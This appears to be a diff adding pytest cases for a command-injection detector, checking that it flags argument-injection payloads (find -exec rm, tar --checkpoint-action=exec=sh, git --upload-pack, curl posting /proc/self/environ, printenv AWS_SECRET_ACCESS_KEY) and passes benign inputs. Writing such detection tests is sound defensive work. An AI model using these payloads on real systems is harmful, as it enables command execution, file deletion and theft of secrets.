@@ -372,3 +372,155 @@ def test_a_script_longer_than_execve_takes_is_not_read() -> None:
     assert argv(["sh", "-c", "echo x; id " + "a" * limit], "x; id") is None
     assert not ci.runnable(Command(["ls", "a" * (limit + 1)]))
     assert ci.runnable(Command(["ls", "a" * limit]))
+
+
+# ---------------------------------------------------------------- issue 11: vectors split from a string
+
+def split_vector(template: str, value: str, split=shlex.split) -> list[str]:
+    return split(template.format(value))
+
+
+# (template, payload, how the code split it, expected rule, expected word in the message)
+SPLIT_ATTACKS = [
+    ("find . -name {}", "x -exec rm {{}} ;", shlex.split, "cmdi.option", "-exec"),
+    ("find . -name {}", "x -exec rm {{}} ;", str.split, "cmdi.option", "-exec"),
+    ("find /tmp -name {}", "x\t-delete", str.split, "cmdi.option", "-delete"),
+    ("tar cf out.tar {}", "x --checkpoint=1 --checkpoint-action=exec=sh", shlex.split, "cmdi.option",
+     "--checkpoint-action"),
+    ("tar cf out.tar {}", "x '--to-command=sh -c id'", shlex.split, "cmdi.option", "--to-command"),
+    ("curl -s {}", "http://x -o /tmp/pwned", shlex.split, "cmdi.option", "-o"),
+    ("curl -s {}", "http://x  -K\n/tmp/cfg", str.split, "cmdi.option", "-K"),
+    ("git clone {} repo", "x --upload-pack=id", shlex.split, "cmdi.option", "--upload-pack"),
+    ("{} --version", "printenv AWS_SECRET_ACCESS_KEY", shlex.split, "cmdi.program", "chooses the program"),
+    ("env {}", "X=1 printenv", shlex.split, "cmdi.program", "chooses the program"),
+    ("rsync {} /tmp/dst", "src -e 'sh -c id'", shlex.split, "cmdi.option", "-e"),
+]
+
+
+@pytest.mark.parametrize(("template", "payload", "split", "rule", "word"), SPLIT_ATTACKS)
+def test_split_vector_attacks(template: str, payload: str, split, rule: str, word: str) -> None:
+    vector = split_vector(template, payload, split)
+    finding = argv(vector, payload)
+    assert finding is not None and finding.rule == rule, (vector, finding)
+    assert word in finding.message
+    inputs = Inputs([Input("query.q", payload)])
+    assert ci.Prefilter(inputs).may_inject(Command(vector))
+
+
+SPLIT_BENIGN = [
+    ("find . -name {}", "my report.pdf"),
+    ("grep -r {} /var/task/docs", "hello world"),
+    ("convert {} out.png", "photo 1.jpg"),
+    ("git log --grep {}", "fix - typo"),  # a lone dash is no option
+    ("tar cf out.tar {}", "a.txt b.txt c.txt"),
+    ("curl -s {}", "https://example.com/a b"),
+    ("echo {}", "x -exec rm {{}} ;"),  # echo has no dangerous option
+]
+
+
+@pytest.mark.parametrize(("template", "payload"), SPLIT_BENIGN)
+def test_split_vector_benign(template: str, payload: str) -> None:
+    for split in (shlex.split, str.split):
+        assert argv(split_vector(template, payload, split), payload) is None
+
+
+def test_split_forms() -> None:
+    assert ci.split_forms("a  b\tc") == ("a b c",)
+    assert ci.split_forms("x '-exec rm' y") == ("x '-exec rm' y", "x -exec rm y")
+    assert ci.split_forms("single") == ()
+    assert ci.split_forms("it's open") == ("it's open",)  # shlex refuses it: the code's split raised
+    assert ci.split_forms("a b" * ci.MAX_SPLIT_INPUT) == ()
+
+
+def test_split_forms_are_linear() -> None:
+    import time
+
+    for size in (1000, 60000):
+        value = "'a' -b " * (size // 7)
+        started = time.perf_counter()
+        ci.split_forms(value)
+        assert time.perf_counter() - started < 0.05
+
+
+# ---------------------------------------------------------------- issue 11: options, abbreviations, values
+
+OPTION_ATTACKS = [
+    (["tar", "cf", "o.tar", "--checkpoint-act=exec=sh"], "--checkpoint-act=exec=sh", "--checkpoint-action"),
+    (["git", "clone", "--upload-pa=touch /tmp/x", "r"], "--upload-pa=touch /tmp/x", "--upload-pack"),
+    (["wget", "--post-f=/proc/self/environ", "http://x"], "--post-f=/proc/self/environ", "--post-file"),
+    (["tar", "cf", "o.tar", "--to-com=sh"], "--to-com=sh", "--to-command"),
+    (["curl", "--json", "@/proc/self/environ", "http://x"], "--json", "--json"),
+    (["curl", "--url-query", "@/proc/self/environ", "http://x"], "--url-query", "--url-query"),
+    (["curl", "-s", "http://x", "--cookie-jar", "/var/task/app.py"], "--cookie-jar", "--cookie-jar"),
+    (["curl", "--unix-socket", "/var/run/docker.sock", "http://x"], "--unix-socket", "--unix-socket"),
+    (["curl", "-d", "@/proc/self/environ", "http://x"], "@/proc/self/environ", "read a file"),
+    (["curl", "--data-binary=@/proc/self/environ", "http://x"], "@/proc/self/environ", "read a file"),
+    (["curl", "-F", "f=@/proc/self/environ", "http://x"], "@/proc/self/environ", "read a file"),
+    (["curl", "-F", "f=</proc/self/environ", "http://x"], "f=</proc/self/environ", "read a file"),
+    (["curl", "-H", "@/proc/self/environ", "http://x"], "@/proc/self/environ", "read a file"),
+    (["wget", "--save-cookies=/tmp/x", "http://x"], "--save-cookies=/tmp/x", "--save-cookies"),
+    (["git", "rebase", "-x", "id", "main"], "-x", "-x"),
+    (["git", "grep", "--open-files-in-pager=id", "x"], "--open-files-in-pager=id", "--open-files-in-pager"),
+    (["git", "difftool", "--extcmd=id"], "--extcmd=id", "--extcmd"),
+    (["ssh", "-J", "evil", "host"], "-J", "-J"),
+    (["rsync", "--remove-source-files", "a", "b"], "--remove-source-files", "--remove-source-files"),
+    (["rsync", "--rsync-pa=id", "a", "b"], "--rsync-pa=id", "--rsync-path"),
+    (["zip", "-r", "--out", "/var/task/x.zip", "d"], "--out", "--out"),
+    (["find", ".", "-files0-from", "/tmp/list"], "-files0-from", "-files0-from"),
+    (["env", "--chdir=/tmp", "ls"], "--chdir=/tmp", "--chdir"),
+    (["awk", "-l", "/tmp/evil", "1"], "-l", "-l"),
+    (["gawk", "--loa=/tmp/evil", "1"], "--loa=/tmp/evil", "--load"),
+    (["perl", "-MIO::All", "-x"], "-MIO::All", "into perl"),
+    (["node", "--import=/tmp/x.mjs", "app.js"], "--import=/tmp/x.mjs", "--import"),
+    (["tar", "xf", "a.tar", "--remove-files"], "--remove-files", "--remove-files"),
+]
+
+
+@pytest.mark.parametrize(("vector", "payload", "option"), OPTION_ATTACKS)
+def test_option_attacks(vector: list[str], payload: str, option: str) -> None:
+    finding = argv(vector, payload)
+    assert finding is not None and finding.rule == "cmdi.option", finding
+    assert option in finding.message
+    assert ci.Prefilter(Inputs([Input("query.x", payload)])).may_inject(Command(vector))
+
+
+OPTION_BENIGN = [
+    (["git", "commit", "-m", "- bump"], "- bump"),  # the value of -m
+    (["git", "commit", "-m", "-update docs"], "-update docs"),
+    (["git", "log", "--grep", "-ofile"], "-ofile"),
+    (["curl", "-H", "-o /tmp/x", "http://x"], "-o /tmp/x"),  # a header value, not an option
+    (["curl", "-d", "name=bob@example.com", "http://x"], "name=bob@example.com"),  # no @file
+    (["curl", "-d", "a@b", "http://x"], "a@b"),
+    (["find", ".", "-name", "-delete"], "-delete"),  # the name searched for
+    (["tar", "cf", "o.tar", "--to"], "--to"),  # too short to stand for one option
+    (["wget", "--po"], "--po"),
+    (["git", "log", "--grep", "git"], "git"),  # a search term named like the program
+    (["git", "log", "--author", "git"], "git"),
+    (["grep", "-r", "git", "."], "git"),
+    (["ssh", "-p", "-J", "host"], "-J"),  # the port's (invalid) value
+]
+
+
+@pytest.mark.parametrize(("vector", "payload"), OPTION_BENIGN)
+def test_option_benign(vector: list[str], payload: str) -> None:
+    assert argv(vector, payload) is None
+
+
+SEARCH_TERM_SHELL = [
+    ("git log --grep {}", "git"),
+    ("grep -r {} /var/task/docs", "grep"),
+    ("file /tmp/{} ; echo file", "file"),
+    ("date -d {} +%s", "date"),
+]
+
+
+@pytest.mark.parametrize(("template", "payload"), SEARCH_TERM_SHELL)
+def test_search_term_named_like_a_program_in_a_shell_command(template: str, payload: str) -> None:
+    assert shell(template, payload) is None
+
+
+def test_program_position_still_chooses_the_program() -> None:
+    assert shell("{} log", "git").rule == "cmdi.program"
+    assert shell("{} --version", "date").rule == "cmdi.program"
+    assert argv(["git", "log"], "git").rule == "cmdi.program"
+    assert shell("{} x; echo gitx", "git").rule == "cmdi.program"  # the other occurrence is no word of its own
